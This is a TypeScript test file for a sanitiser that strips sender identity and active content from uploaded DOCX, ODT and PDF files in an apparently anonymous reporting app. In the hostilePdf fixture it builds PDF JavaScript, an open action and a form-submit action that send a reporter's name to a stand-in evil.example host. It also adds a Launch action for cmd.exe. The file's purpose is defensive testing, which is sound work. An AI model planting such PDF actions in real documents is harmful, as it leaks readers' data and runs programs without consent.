import assert from 'node:assert/strict';
import { constants, inflateSync } from 'node:zlib';
import { after, before, test } from 'node:test';
import CFB from 'cfb';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString } from '@cantoo/pdf-lib';
import { type TestApp, type TestUser, startTestApp } from '../../../test/support/app.ts';
import { assertCleanJpeg, download, fixtureBytes, includesText, submitWithFiles } from '../../../test/support/files.ts';
import { AppError } from '../../errors.ts';
import { stripOdf, stripOoxml, stripPdf } from './strip-documents.ts';

/**
 * Attack: a letter (DOCX, ODT, PDF) that carries its sender: their name in the properties, in a
 * customXml data store and in the template path, and a GPS-tagged phone photo inside. The PDF
 * also carries active content: scripts, an open action, an embedded file, a form that submits.
 */

const NAME = 'Budi Santoso';
const PHOTO = new Uint8Array(fixtureBytes('photo-gps.jpg')); // EXIF GPS, camera serial, "Budi Santoso" as artist, XMP, IPTC

function assertNoIdentity(bytes: Uint8Array, where: string): void {
  assert.ok(!includesText(bytes, NAME), `${where}: "${NAME}" is left`);
  assert.ok(!includesText(bytes, 'budi.santoso'), `${where}: the user folder is left`);
}

// ---------------------------------------------------------------------------------------------
// DOCX

function hostileDocx(): Uint8Array {
  const files = unzipSync(fixtureBytes('letter.docx'));
  const text = (name: string) => strFromU8(files[name]!);
  files['[Content_Types].xml'] = strToU8(
    text('[Content_Types].xml').replace(
      '</Types>',
      '<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/></Types>',
    ),
  );
  files['customXml/item1.xml'] = strToU8(
    `<?xml version="1.0"?><p:properties xmlns:p="urn:x"><Pelapor>${NAME}</Pelapor><NIK>6171010101900001</NIK></p:properties>`,
  );
  files['customXml/itemProps1.xml'] = strToU8(
    '<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>',
  );
  files['customXml/_rels/item1.xml.rels'] = strToU8(
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>',
  );
  files['word/_rels/document.xml.rels'] = strToU8(
    text('word/_rels/document.xml.rels').replace(
      '</Relationships>',
      '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml" Target="../customXml/item1.xml"/>' +
        '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.jpeg"/></Relationships>',
    ),
  );
  files['word/_rels/settings.xml.rels'] = strToU8(
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Users/budi.santoso/AppData/Roaming/Microsoft/Templates/Normal.dotm" TargetMode="External"/></Relationships>',
  );
  files['word/settings.xml'] = strToU8(text('word/settings.xml').replace('<w:zoom', '<w:attachedTemplate r:id="rId1"/><w:zoom'));
  files['word/media/image1.jpeg'] = PHOTO;
  files['docProps/thumbnail.jpeg'] = PHOTO;
  return zipSync(files);
}

test('DOCX: the photo inside loses EXIF/GPS, customXml and the template reference go, the document stays whole', () => {
  const input = hostileDocx();
  const output = unzipSync(stripOoxml(input));
  for (const [name, data] of Object.entries(output)) assertNoIdentity(data, name);
  assertCleanJpeg(output['word/media/image1.jpeg']!, 'word/media/image1.jpeg');
  assertCleanJpeg(output['docProps/thumbnail.jpeg']!, 'docProps/thumbnail.jpeg');
  assert.ok(!Object.keys(output).some((n) => n.startsWith('customXml/')), 'customXml parts are gone');
  const types = strFromU8(output['[Content_Types].xml']!);
  assert.ok(!types.includes('customXml'), 'and their content types');
  const rels = strFromU8(output['word/_rels/document.xml.rels']!);
  assert.ok(!rels.includes('customXml'), 'and their relationships');
  assert.ok(rels.includes('media/image1.jpeg') && rels.includes('styles.xml'), 'other relationships stay');
  assert.ok(!strFromU8(output['word/_rels/settings.xml.rels']!).includes('attachedTemplate'), 'the template relationship is gone');
  assert.ok(!strFromU8(output['word/settings.xml']!).includes('attachedTemplate'), 'and its reference');
  assert.ok(strFromU8(output['word/settings.xml']!).includes('<w:zoom'), 'settings stay');
  assert.deepEqual(output['word/document.xml'], unzipSync(input)['word/document.xml'], 'the text is untouched');
});

test('DOCX: documents embedded in it are stripped too: an XLSX with its author and the photo, a legacy OLE object', () => {
  const inner = unzipSync(hostileDocx()); // a whole document with the name, customXml and the photo
  const files = unzipSync(fixtureBytes('letter.docx'));
  files['word/embeddings/Microsoft_Word_Document.docx'] = zipSync(inner);
  const summary = Buffer.concat([Buffer.from([0xfe, 0xff, 0, 0]), Buffer.alloc(96), Buffer.from(`Author\0${NAME}\0`, 'latin1')]);
  const container = CFB.utils.cfb_new();
  CFB.utils.cfb_add(
    container,
    '/WordDocument',
    Uint8Array.from({ length: 5000 }, (_, i) => (i * 31) % 256),
  );
  CFB.utils.cfb_add(container, '/\u0005SummaryInformation', summary);
  files['word/embeddings/oleObject1.bin'] = new Uint8Array(CFB.write(container, { type: 'buffer' }) as Uint8Array);
  const output = unzipSync(stripOoxml(zipSync(files)));
  assertNoIdentity(output['word/embeddings/oleObject1.bin']!, 'oleObject1.bin');
  const nested = unzipSync(output['word/embeddings/Microsoft_Word_Document.docx']!);
  for (const [name, data] of Object.entries(nested)) assertNoIdentity(data, `embedded ${name}`);
  assertCleanJpeg(nested['word/media/image1.jpeg']!, 'the photo in the embedded document');
  assert.ok(!Object.keys(nested).some((n) => n.startsWith('customXml/')));
  // Two levels deep is refused rather than guessed at.
  const deeper = unzipSync(fixtureBytes('letter.docx'));
  deeper['word/embeddings/outer.docx'] = zipSync(files);
  assert.throws(
    () => stripOoxml(zipSync(deeper)),
    (e: unknown) => e instanceof AppError && e.code === 'attachment_type_not_allowed',
  );
});

test('DOCX: an embedded TIFF (which has no stripper) is refused', () => {
  const files = unzipSync(fixtureBytes('letter.docx'));
  files['word/media/image1.tif'] = Uint8Array.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0, 0, 0, ...strToU8(NAME)]);
  assert.throws(
    () => stripOoxml(zipSync(files)),
    (e: unknown) => e instanceof AppError && e.code === 'attachment_type_not_allowed',
  );
});

// ---------------------------------------------------------------------------------------------
// ODT

function hostileOdt(): Uint8Array {
  const files = unzipSync(fixtureBytes('letter.odt'));
  const meta = strFromU8(files['meta.xml']!);
  files['meta.xml'] = strToU8(
    meta.replace(
      '<office:meta>',
      `<office:meta><meta:initial-creator>${NAME}</meta:initial-creator><meta:template xlink:type="simple" xlink:href="file:///home/budi.santoso/Templates/surat.ott" xlink:title="surat"/>`,
    ),
  );
  files['Pictures/10000000000001.jpg'] = PHOTO;
  files['Thumbnails/thumbnail.png'] = files['Thumbnails/thumbnail.png']!;
  const manifest = strFromU8(files['META-INF/manifest.xml']!);
  files['META-INF/manifest.xml'] = strToU8(
    manifest.replace(
      '</manifest:manifest>',
      ' <manifest:file-entry manifest:full-path="Pictures/10000000000001.jpg" manifest:media-type="image/jpeg"/>\n</manifest:manifest>',
    ),
  );
  const { mimetype, ...rest } = files;
  return zipSync({ mimetype: [mimetype!, { level: 0 }], ...rest });
}

test('ODT: an embedded object (a folder of its own: Object 1/meta.xml) loses its author too', () => {
  const files = unzipSync(hostileOdt());
  files['Object 1/meta.xml'] = strToU8(
    `<?xml version="1.0"?><office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.3"><office:meta><meta:initial-creator>${NAME}</meta:initial-creator></office:meta></office:document-meta>`,
  );
  files['Object 1/content.xml'] = strToU8(
    `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><office:annotation><dc:creator>${NAME}</dc:creator></office:annotation></office:document-content>`,
  );
  const { mimetype, ...rest } = files;
  const output = unzipSync(stripOdf(zipSync({ mimetype: [mimetype!, { level: 0 }], ...rest })));
  for (const [name, data] of Object.entries(output)) assertNoIdentity(data, name);
  assert.ok(output['Object 1/content.xml'], 'the object stays');
});

test('ODT: the photo inside loses EXIF/GPS, the template link and the author go', () => {
  const input = hostileOdt();
  assert.ok(includesText(unzipSync(input)['meta.xml']!, 'budi.santoso'));
  const output = unzipSync(stripOdf(input));
  for (const [name, data] of Object.entries(output)) assertNoIdentity(data, name);
  assertCleanJpeg(output['Pictures/10000000000001.jpg']!, 'Pictures/10000000000001.jpg');
  assert.ok(!strFromU8(output['meta.xml']!).includes('template'));
  assert.ok(strFromU8(output['META-INF/manifest.xml']!).includes('Pictures/10000000000001.jpg'), 'the manifest still lists the picture');
});

// ---------------------------------------------------------------------------------------------
// PDF

async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setAuthor(NAME);
  const page = doc.addPage([300, 300]);
  const image = await doc.embedJpg(PHOTO);
  page.drawImage(image, { x: 10, y: 10, width: 100, height: 100 });
  page.drawText('Jalan rusak di Jl. Merdeka', { x: 10, y: 200, size: 12 });
  doc.addJavaScript('kirim', `app.alert("${NAME}"); this.submitForm("https://evil.example/track");`);
  await doc.attach(strToU8(`KTP ${NAME} 6171010101900001`), 'ktp-budi.txt', { mimeType: 'text/plain', description: NAME });
  const { context } = doc;
  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  doc.catalog.set(PDFName.of('OpenAction'), js(`app.launchURL("https://evil.example/?u=${NAME}")`));
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert(1)') }));
  page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert(2)') }));
  // An XFA form: its template carries scripts that Acrobat runs.
  const xfa = context.register(
    context.stream(
      strToU8(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert("${NAME}")</script></template></xdp:xdp>`,
      ),
    ),
  );
  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: xfa }));
  const fileSpec = context.obj({
    Type: 'Filespec',
    F: PDFString.of('foto-budi.txt'),
    EF: { F: context.register(context.stream(strToU8(`lokasi ${NAME} -6.175392,106.827153`))) },
  });
  const annots = context.obj([
    // a comment with a file attached
    context.register(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 10, 10], FS: fileSpec, T: PDFString.of(NAME) })),
    // a link that stays
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 20, 10, 30], A: { S: 'URI', URI: PDFString.of('https://lapor.go.id') } }),
    ),
    // a form button that sends the form away, and one that launches a program
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Widget',
        Rect: [0, 40, 10, 50],
        A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') },
      }),
    ),
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 60, 10, 70], A: { S: 'Launch', F: PDFString.of('cmd.exe') } }),
    ),
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 80, 10, 90],
        A: { S: 'GoToR', F: PDFString.of('//server/budi.santoso/x.pdf'), D: [0, { Fit: null }] },
      }),
    ),
  ]);
  page.node.set(PDFName.of('Annots'), annots);
  return doc.save({ useObjectStreams: false });
}

/** Every name and string of a PDF, streams included (inflated where they are Flate). */
async function pdfTexts(bytes: Uint8Array): Promise<{ names: Set<string>; text: string; jpegs: Uint8Array[] }> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const names = new Set<string>();
  const parts: string[] = [];
  const jpegs: Uint8Array[] = [];
  const visit = (value: unknown): void => {
    if (value instanceof PDFName) names.add(value.decodeText());
    else if (value instanceof PDFDict) {
      for (const [k, v] of value.entries()) {
        names.add(k.decodeText());
        visit(v);
      }
    } else if (value instanceof PDFArray) value.asArray().forEach(visit);
    else if (value !== null && typeof value === 'object' && 'decodeText' in value) parts.push((value as PDFString).decodeText());
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    if (object instanceof PDFRawStream) {
      visit(object.dict);
      const filter = object.dict.get(PDFName.of('Filter'));
      const contents = object.getContents();
      if (filter instanceof PDFName && filter.decodeText() === 'DCTDecode') jpegs.push(contents);
      else if (filter instanceof PDFName && filter.decodeText() === 'FlateDecode')
        parts.push(Buffer.from(inflateSync(contents, { finishFlush: constants.Z_SYNC_FLUSH })).toString('latin1'));
      else parts.push(Buffer.from(contents).toString('latin1'));
    } else visit(object);
  }
  return { names, text: parts.join('\n') + Buffer.from(bytes).toString('latin1'), jpegs };
}

test('PDF: the photo inside loses EXIF/GPS; scripts, open actions, embedded files and form actions go; links stay', async () => {
  const input = await hostilePdf();
  const before = await pdfTexts(input);
  for (const name of ['JavaScript', 'OpenAction', 'EmbeddedFiles', 'SubmitForm', 'Launch', 'GoToR', 'AA', 'EF', 'XFA'])
    assert.ok(before.names.has(name), `the attack PDF has ${name}`);
  assert.ok(before.text.includes(NAME));

  const output = await stripPdf(input);
  const after = await pdfTexts(output);
  for (const name of [
    'JavaScript',
    'JS',
    'OpenAction',
    'EmbeddedFiles',
    'EmbeddedFile',
    'SubmitForm',
    'ImportData',
    'Launch',
    'GoToR',
    'AA',
    'EF',
    'FS',
    'XFA',
  ]) {
    assert.ok(!after.names.has(name), `/${name} is left in the PDF`);
  }
  const at = after.text.indexOf(NAME);
  assert.ok(at < 0, `the name is left: ${JSON.stringify(after.text.slice(Math.max(0, at - 100), at + 50))}`);
  assert.ok(!after.text.includes('evil.example'), 'a script or action target is left');
  assert.ok(!after.text.includes('6171010101900001'), 'the embedded file is left');
  assert.ok(after.names.has('URI') && after.text.includes('https://lapor.go.id'), 'a plain link stays');
  assert.equal(after.jpegs.length, 1, 'the photo stays');
  assertCleanJpeg(after.jpegs[0]!, 'the photo inside the PDF');
  assert.ok(after.jpegs[0]!.length < PHOTO.length);
  const doc = await PDFDocument.load(output);
  assert.equal(doc.getPageCount(), 1);
  assert.equal(doc.getPage(0).node.Annots()?.size(), 5, 'the annotations stay, without what they carried');
});

test('PDF: a JPEG behind FlateDecode is stripped too, and a JPEG stream that is no JPEG is refused', async () => {
  const doc = await PDFDocument.create();
  const page = doc.addPage([100, 100]);
  const stream = doc.context.flateStream(PHOTO, {
    Type: 'XObject',
    Subtype: 'Image',
    Width: 16,
    Height: 16,
    ColorSpace: 'DeviceRGB',
    BitsPerComponent: 8,
  });
  stream.dict.set(PDFName.of('Filter'), doc.context.obj(['FlateDecode', 'DCTDecode']));
  const ref = doc.context.register(stream);
  page.node.set(PDFName.of('Resources'), doc.context.obj({ XObject: { Im1: ref } }));
  const after = await pdfTexts(await stripPdf(await doc.save({ useObjectStreams: false })));
  assert.equal(after.jpegs.length, 1);
  assertCleanJpeg(after.jpegs[0]!, 'the Flate+DCT photo');

  const broken = await PDFDocument.create();
  const bad = broken.context.register(
    broken.context.stream(strToU8(`not a jpeg ${NAME}`), { Type: 'XObject', Subtype: 'Image', Filter: 'DCTDecode', Width: 1, Height: 1 }),
  );
  broken.addPage([10, 10]).node.set(PDFName.of('Resources'), broken.context.obj({ XObject: { Im1: bad } }));
  await assert.rejects(
    stripPdf(await broken.save({ useObjectStreams: false })),
    (e: unknown) => e instanceof AppError && e.code === 'invalid_input',
  );
});

// ---------------------------------------------------------------------------------------------
// Through the API

let t: TestApp;
let citizen: TestUser;
let national: TestUser;
before(async () => {
  t = await startTestApp();
  citizen = await t.user('reporter');
  national = await t.user('national_admin');
});
after(() => t.close());

test('uploaded, the DOCX, the ODT and the PDF are stored without the name, the photo metadata and the scripts', async () => {
  const filed = await submitWithFiles(t, citizen.token, { anonymous: true }, [
    new File([hostileDocx()], 'surat.docx', { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }),
    new File([hostileOdt()], 'surat.odt', { type: 'application/vnd.oasis.opendocument.text' }),
    new File([await hostilePdf()], 'surat.pdf', { type: 'application/pdf' }),
  ]);
  assert.equal(filed.status, 201, filed.text);
  const [docx, odt, pdf] = await Promise.all(filed.body.attachments.map((a: { url: string }) => download(t, a.url, national.token)));
  for (const [name, data] of Object.entries(unzipSync(docx!.bytes))) assertNoIdentity(data, `stored docx ${name}`);
  for (const [name, data] of Object.entries(unzipSync(odt!.bytes))) assertNoIdentity(data, `stored odt ${name}`);
  const stored = await pdfTexts(pdf!.bytes);
  assert.ok(!stored.text.includes(NAME) && !stored.names.has('JavaScript') && !stored.names.has('EmbeddedFiles'));
  assertCleanJpeg(stored.jpegs[0]!, 'stored pdf photo');
});
